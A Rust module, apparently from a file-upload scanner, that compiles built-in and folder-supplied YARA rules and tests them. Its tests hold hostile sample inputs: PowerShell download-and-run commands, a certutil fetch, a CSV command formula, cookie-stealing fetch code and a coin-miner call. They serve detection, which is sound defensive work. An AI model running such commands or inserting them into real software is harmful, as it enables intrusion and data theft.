//! The YARA rules: our own, compiled in, and more from a folder. The engine is boreal.

use std::{
    fs,
    path::{Path, PathBuf},
    time::Duration,
};

use boreal::{
    Compiler, MetadataValue, Scanner,
    compiler::CompilerParams,
    scanner::{EvaluatedRule, ScanError, ScanParams},
};
use domain::review::ScanAction;
use sha2::{Digest, Sha256};

use crate::scan::finding::{Finding, Severity};

/// Namespace and source of the rules that are always there.
const OWN: [(&str, &str); 3] = [
    ("programs", include_str!("../../rules/programs.yar")),
    ("documents", include_str!("../../rules/documents.yar")),
    ("scripts", include_str!("../../rules/scripts.yar")),
];
/// Time for one window of one entry. A rule that needs more is a bad rule; the entry then counts as not fully scanned.
const TIME: Duration = Duration::from_secs(30);
/// Largest rule file, in bytes.
const FILE_MAX: u64 = 8 << 20;

/// Why rules could not be loaded. Nothing is scanned with half a rule set.
#[derive(Debug, thiserror::Error)]
pub enum RulesError {
    #[error("rules in {path} cannot be read: {source}", path = path.display())]
    Read { path: PathBuf, source: std::io::Error },
    #[error("{path} is larger than {FILE_MAX} bytes", path = path.display())]
    TooLarge { path: PathBuf },
    #[error("{file}: {message}")]
    Compile { file: String, message: String },
}

/// Compiled rules. Cloning is cheap.
#[derive(Clone, Debug)]
pub struct Rules {
    scanner: Scanner,
    /// First half of the SHA-256 of all sources, in hexadecimal: changes when a rule does.
    pub version: String,
}

/// Where a window of bytes comes from; becomes the rules' external variables.
#[derive(Clone, Copy, Debug)]
pub struct Place<'a> {
    pub entry: &'a str,
    pub extension: &'a str,
    pub nested: bool,
    pub window: u32,
    pub scripts_allowed: bool,
}

impl Rules {
    /// Compiles our own rules and every `*.yar` and `*.yara` file in `folder`, in the order of their names.
    pub fn load(folder: Option<&Path>) -> Result<Self, RulesError> {
        let mut sources: Vec<(String, String)> =
            OWN.iter().map(|(name, source)| ((*name).to_owned(), (*source).to_owned())).collect();
        if let Some(folder) = folder {
            for path in rule_files(folder)? {
                let name = path.file_stem().unwrap_or_default().to_string_lossy().into_owned();
                let source = fs::read_to_string(&path).map_err(|source| RulesError::Read { path, source })?;
                sources.push((name, source));
            }
        }
        let mut compiler = Compiler::new();
        compiler.set_params(CompilerParams::default().disable_includes(true));
        define_places(&mut compiler);
        let mut digest = Sha256::new();
        for (name, source) in &sources {
            compiler
                .add_rules_str_in_namespace(source, name)
                .map_err(|error| RulesError::Compile { file: name.clone(), message: error.to_string() })?;
            digest.update(name);
            digest.update([0]);
            digest.update(source);
            digest.update([0]);
        }
        let mut scanner = compiler.finalize();
        scanner.set_scan_params(ScanParams::default().timeout_duration(Some(TIME)).string_max_nb_matches(200));
        Ok(Self { version: hex::encode(&digest.finalize()[..16]), scanner })
    }

    /// Scans one window. The flag says that the time was over before all rules were tried.
    pub fn scan(&mut self, bytes: &[u8], place: Place<'_>) -> (Vec<Finding>, bool) {
        let scanner = &mut self.scanner;
        let results = [
            scanner.define_symbol("entry", place.entry),
            scanner.define_symbol("extension", place.extension),
            scanner.define_symbol("nested", place.nested),
            scanner.define_symbol("window", i64::from(place.window)),
            scanner.define_symbol("scripts_allowed", place.scripts_allowed),
        ];
        debug_assert!(results.iter().all(Result::is_ok), "all symbols are defined when compiling");
        let (result, timed_out) = match self.scanner.scan_mem(bytes) {
            Ok(result) => (result, false),
            Err((ScanError::Timeout, result)) => (result, true),
            // The others concern processes, fragments and callbacks, which are not used here.
            Err((_, result)) => (result, true),
        };
        let findings = result.rules.iter().map(|rule| self.finding(rule, place.entry)).collect();
        (findings, timed_out)
    }

    fn finding(&self, rule: &EvaluatedRule<'_>, entry: &str) -> Finding {
        let meta = |name: &str| {
            rule.metadatas.iter().find_map(|meta| match meta.value {
                MetadataValue::Bytes(value) if self.scanner.get_string_symbol(meta.name) == name => {
                    Some(String::from_utf8_lossy(self.scanner.get_bytes_symbol(value)).into_owned())
                }
                _ => None,
            })
        };
        let en =
            meta("en").or_else(|| meta("description")).unwrap_or_else(|| format!("Matches the rule {}.", rule.name));
        Finding {
            rule: rule.name.to_owned(),
            entry: entry.to_owned(),
            severity: match meta("severity").as_deref() {
                Some("info") => Severity::Info,
                Some("low") => Severity::Low,
                Some("high") => Severity::High,
                _ => Severity::Medium,
            },
            action: match meta("action").as_deref() {
                Some("note") => ScanAction::Note,
                Some("quarantine") => ScanAction::Quarantine,
                _ => ScanAction::Review,
            },
            count: 1,
            excerpt: None,
            de: meta("de").unwrap_or_else(|| format!("Entspricht der Regel {}.", rule.name)),
            en,
        }
    }
}

/// Types matter here, values are set for each window.
fn define_places(compiler: &mut Compiler) {
    compiler.define_symbol("entry", "");
    compiler.define_symbol("extension", "");
    compiler.define_symbol("nested", false);
    compiler.define_symbol("window", 0i64);
    compiler.define_symbol("scripts_allowed", false);
}

fn rule_files(folder: &Path) -> Result<Vec<PathBuf>, RulesError> {
    let fail = |source| RulesError::Read { path: folder.to_owned(), source };
    let mut files = Vec::new();
    for file in fs::read_dir(folder).map_err(fail)? {
        let file = file.map_err(fail)?;
        let path = file.path();
        let extension = path.extension().and_then(|extension| extension.to_str());
        if !matches!(extension, Some("yar" | "yara")) {
            continue;
        }
        if fs::metadata(&path).map_err(fail)?.len() > FILE_MAX {
            return Err(RulesError::TooLarge { path });
        }
        files.push(path);
    }
    files.sort();
    Ok(files)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn matches(bytes: &[u8], entry: &str) -> Vec<(String, ScanAction)> {
        let place = Place {
            entry,
            extension: &crate::kind::extension(entry),
            nested: entry.contains('!'),
            window: 0,
            scripts_allowed: false,
        };
        let (found, timed_out) = Rules::load(None).unwrap().scan(bytes, place);
        assert!(!timed_out);
        found.into_iter().map(|finding| (finding.rule, finding.action)).collect()
    }

    fn one(bytes: &[u8], entry: &str) -> String {
        let found = matches(bytes, entry);
        assert_eq!(found.len(), 1, "{entry}: {found:?}");
        found[0].0.clone()
    }

    /// A program header with its stub text.
    fn windows_program() -> Vec<u8> {
        let mut program = vec![0; 0x80];
        program[..2].copy_from_slice(b"MZ");
        program[0x3C] = 0x80;
        let text = b"This program cannot be run in DOS mode";
        program[0x4E..0x4E + text.len()].copy_from_slice(text);
        program.extend_from_slice(b"PE\0\0");
        program
    }

    #[test]
    fn every_own_rule_says_what_it_means() {
        let rules = Rules::load(None).unwrap();
        assert!(rules.scanner.rules().count() >= 20);
        for (_, source) in OWN {
            let rules = source.lines().filter(|line| line.starts_with("rule ")).count();
            for meta in ["severity = ", "action = ", "en = ", "de = "] {
                assert_eq!(source.matches(meta).count(), rules, "{meta}");
            }
        }
    }

    #[test]
    fn finds_programs() {
        let eicar = ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR", "-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"].concat();
        assert_eq!(matches(eicar.as_bytes(), "a.txt"), [("eicar_test_file".into(), ScanAction::Quarantine)]);
        let program = windows_program();
        assert!(matches(&program, "a.txt").contains(&("windows_program".into(), ScanAction::Quarantine)));
        let inside = [b"%PDF-1.7 some text", program.as_slice()].concat();
        assert_eq!(one(&inside, "a.pdf"), "windows_program_inside");
        assert_eq!(one(b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x09\0", "a.txt"), "unix_program");
        let elf = b"xxxx\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0";
        assert_eq!(one(elf, "a.png"), "unix_program_inside");
        assert_eq!(one(b"\xCA\xFE\xBA\xBE\0\0\0\x41", "a.png"), "java_or_android_program");
        assert_eq!(one(b"#!/usr/bin/env bash\nls", "a.txt"), "script_program");
        assert_eq!(one(b"\xFF\xD8\xFF .... PK\x05\x06\0\0\0\0\x01\0", "a.jpg"), "archive_behind_an_image");
        assert_eq!(
            one(b"powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=", "a.txt"),
            "downloads_and_runs"
        );
    }

    #[test]
    fn commands_are_told_from_lists_of_words() {
        for command in [
            "IEX (New-Object Net.WebClient).DownloadString('https://example.net/x.ps1')",
            "iex ((new-object System.Net.WebClient).DownloadString(\"http://example.net\"))",
            "iex (irm https://example.net/x)",
            "Invoke-Expression (Invoke-WebRequest -UseBasicParsing -Uri 'https://example.net/x.ps1')",
            "irm https://example.net/x | iex",
            "certutil.exe -f -urlcache https://example.net/a.exe a.exe",
        ] {
            assert_eq!(one(command.as_bytes(), "a.txt"), "downloads_and_runs", "{command}");
        }
        // As the highlighter's PowerShell grammar has them.
        let keywords = "ac|clc|curl|epal|gal|icm|iex|ihy|ii|ipal|irm|ise|iwmi|iwr|kill|lp|ls|man|md|wget|where|write";
        let spaced = keywords.replace('|', " ");
        let quoted =
            "\"Invoke-Expression Invoke-History Invoke-Item Invoke-RestMethod Invoke-WebRequest DownloadString\"";
        for list in [keywords, &spaced, quoted] {
            assert_eq!(matches(list.as_bytes(), "highlight.min.js"), [], "{list}");
        }
    }

    #[test]
    fn leaves_prose_alone() {
        let prose = "In jedem Windows-Programm steht der Satz \"This program cannot be run in DOS mode\". \
            Die Dateien beginnen mit MZ, unter Linux mit 7F 45 4C 46. Mit eval() sollte man vorsichtig sein.";
        assert_eq!(matches(prose.as_bytes(), "a.md"), []);
        assert_eq!(
            matches(b"MZ is a fine pair of letters to begin a text with, is it not? Yes, it surely is.", "a.txt"),
            []
        );
        assert_eq!(matches(b"", "a.txt"), []);
        assert_eq!(matches(b"Name,Alter\n=SUM(A1:A2),3\n", "a.csv"), []);
    }

    #[test]
    fn finds_office_and_script_dangers() {
        assert_eq!(one(b"x", "a.docx!word/vbaProject.bin"), "office_macros");
        assert_eq!(one(b"x", "a.odt!Basic/Standard/Module1.xml"), "opendocument_macros");
        assert_eq!(one(b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1", "a.docx"), "old_office_container");
        let event = b"<script:event-listener xlink:href=\"vnd.sun.star.script:Standard.Module1.Main\"/>";
        assert_eq!(one(event, "a.odt!content.xml"), "opendocument_macros");
        assert_eq!(one(b"a,b\n=cmd|' /C calc'!A0,1\n", "a.csv"), "spreadsheet_formula_in_csv");
        assert_eq!(one(b"<script>eval(atob('x'))</script>", "a.html"), "script_hides_code");
        assert_eq!(one(b"new CoinHive.Anonymous('x')", "a.js"), "script_mines_coins");
        assert_eq!(one(b"new ActiveXObject('WScript.Shell')", "a.js"), "script_for_windows");
        assert_eq!(one(b"fetch('https://x/?' + document.cookie)", "a.js"), "script_watches_the_reader");
    }

    #[test]
    fn more_rules_come_from_a_folder() {
        let folder = tempfile::tempdir().unwrap();
        let rule = r#"rule apples { meta: description = "About apples" strings: $a = "apples" condition: $a }"#;
        fs::write(folder.path().join("fruit.yar"), rule).unwrap();
        fs::write(folder.path().join("README"), "not a rule").unwrap();
        let mut rules = Rules::load(Some(folder.path())).unwrap();
        assert_ne!(rules.version, Rules::load(None).unwrap().version);
        let place = Place { entry: "a.txt", extension: "txt", nested: false, window: 0, scripts_allowed: false };
        let (found, _) = rules.scan(b"two apples", place);
        assert_eq!((found[0].rule.as_str(), found[0].en.as_str()), ("apples", "About apples"));
        assert_eq!((found[0].action, found[0].severity), (ScanAction::Review, Severity::Medium));
        fs::write(folder.path().join("zz.yar"), "rule broken {").unwrap();
        assert!(matches!(Rules::load(Some(folder.path())), Err(RulesError::Compile { file, .. }) if file == "zz"));
    }
}
